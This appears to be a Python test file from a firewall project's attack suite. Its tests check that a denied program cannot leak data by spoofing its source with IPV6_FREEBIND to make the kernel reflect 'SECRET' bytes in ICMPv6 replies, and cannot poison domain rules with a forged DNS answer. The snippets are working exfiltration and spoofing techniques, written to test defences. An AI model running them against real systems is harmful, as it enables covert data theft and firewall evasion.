# SPDX-License-Identifier: GPL-2.0-or-later
"""Packets over loopback with a source that is elsewhere (IPV6_FREEBIND, which anybody may set): what the kernel answers
to that source leaves the host with the bytes of who began it, and is not the kernel's own."""

from attack import USER, Attack

# As in examples/*/rules.d/10-system.yaml.
KERNEL = "  - {name: kernel-control, app: 'unknown:kernel', protocol: [icmp, icmpv6, 2], action: accept}\n"

SPEAK = """
    how, to = sys.argv[1:3]
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6 if how == "echo" else 0)
    s.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND
    s.bind((PEER6, 4444))
    head = struct.pack("!BBHHH", 128, 0, 0, 0, 1) if how == "echo" else b""
    s.sendto(head + b"SECRET" * 100, (to, 0 if how == "echo" else 5999)); time.sleep(0.5)
"""


class Mirror(Attack):
    def attempt(self, rules: str) -> None:
        self.host.sysctl("net.ipv4.ping_group_range", "0 2147483647")
        self.start(rules)
        for how in ("echo", "udp"):
            for to in (self.pair.host6, "::1"):
                with self.subTest(how=how, to=to):
                    self.wire.reset()
                    self.run_as(self.denied, SPEAK, how, to, user=USER)
                    sent = self.wire.packets(protocol="icmpv6")
                    self.assertEqual([packet for packet in sent if packet["target"] == self.pair.peer6], [])
        self.allowed_sends()

    def test_with_the_rule_of_the_examples(self):
        self.attempt(KERNEL)
        ping = self.peer.run("ping", "-n", "-c", "1", "-W", "5", self.pair.host6)
        self.assertEqual(ping.returncode, 0, "not even who may ask is answered")

    def test_with_a_rule_for_pings_from_outside(self):
        self.attempt("  - {name: ping, direction: in, protocol: icmpv6, action: accept}\n")

    def test_without(self):
        self.attempt("")

    def test_about_a_flow_that_was_decided(self):
        """No rule for ICMP at all: an error about an allowed program's own flow, which has ended, with another's bytes."""
        self.start()
        self.run_as(self.allowed, """
            s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.bind(("", 6000)); assert send(b"x", to=PEER6, s=s) == 0
        """)
        self.assertEqual(self.arrived(), 1)
        self.run_as(self.denied, """
            s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.setsockopt(socket.IPPROTO_IPV6, 78, 1)
            s.bind((PEER6, PORT)); s.sendto(b"SECRET" * 100, (HOST6, 6000)); time.sleep(0.5)
        """, user=USER)
        self.assertEqual([packet for packet in self.wire.packets(protocol="icmpv6") if packet["length"] > 600], [])
        self.allowed_sends()


class AnswerToOneself(Attack):
    """A DNS answer from the resolver's address. Needs a port below 1024, which some hosts give to everybody."""

    def test_an_answer_to_oneself(self):
        self.host.sysctl("net.ipv4.ip_unprivileged_port_start", "53")
        self.peer.run("nft", "add rule inet x i udp dport 53 drop", check=True)
        self.start("  - {name: ask, port: 53, direction: out, action: accept}\n"
                   "  - {name: good, domain: good.example, action: accept}\n",
                   config="dns:\n  resolvers: ['fd99::2']\n  minimum_ttl: 60\n")
        self.run_as(self.denied, """
            name = b"\\4good\\7example\\0"
            ask = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); ask.connect((PEER6, 53))
            ask.send(struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + b"\\0\\1\\0\\1"); ask.settimeout(2)
            forged = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); forged.setsockopt(socket.IPPROTO_IPV6, 78, 1)
            forged.bind((PEER6, 53)); time.sleep(0.5)  # the question has left
            answer = struct.pack("!HHHHHH", 7, 0x8180, 1, 1, 0, 0) + name + b"\\0\\1\\0\\1" + b"\\xc0\\x0c\\0\\1\\0\\1" + \\
                     struct.pack("!IH", 60, 4) + socket.inet_aton(PEER)
            forged.sendto(answer, (HOST6, ask.getsockname()[1]))
            try: ask.recv(999)
            except TimeoutError: pass
            time.sleep(0.5); send(b"x")
        """, user=USER)
        row = self.wait_rows(1)[0]
        self.assertEqual(row["names"], "")
        self.assertEqual(self.arrived(), 0)

    def test_the_control(self):
        """The same answer from the resolver itself."""
        self.host.sysctl("net.ipv4.ip_unprivileged_port_start", "53")
        self.start("  - {name: ask, port: 53, direction: out, action: accept}\n"
                   "  - {name: good, domain: good.example, action: accept}\n",
                   config="dns:\n  resolvers: ['fd99::2']\n  minimum_ttl: 60\n")
        dns = self.peer.start("/usr/bin/python3", "-c", """
import socket, struct
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.bind(("fd99::2", 53)); print("ready", flush=True)
data, who = s.recvfrom(999)
name = b"\\4good\\7example\\0"
s.sendto(struct.pack("!HHHHHH", 7, 0x8180, 1, 1, 0, 0) + name + b"\\0\\1\\0\\1" + b"\\xc0\\x0c\\0\\1\\0\\1" +
         struct.pack("!IH", 60, 4) + socket.inet_aton("10.99.0.2"), who)
""", stdout=-1, text=True)
        self.addCleanup(dns.stdout.close)
        self.addCleanup(dns.wait)
        self.addCleanup(dns.kill)
        dns.stdout.readline()
        self.run_as(self.denied, """
            name = b"\\4good\\7example\\0"
            ask = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); ask.connect((PEER6, 53))
            ask.send(struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + b"\\0\\1\\0\\1"); ask.settimeout(2)
            ask.recv(999)
            time.sleep(0.5); send(b"x")
        """, user=USER)
        row = self.wait_rows(1)[0]
        self.assertEqual((row["names"], row["verdict"]), ("good.example\n", "accept"))
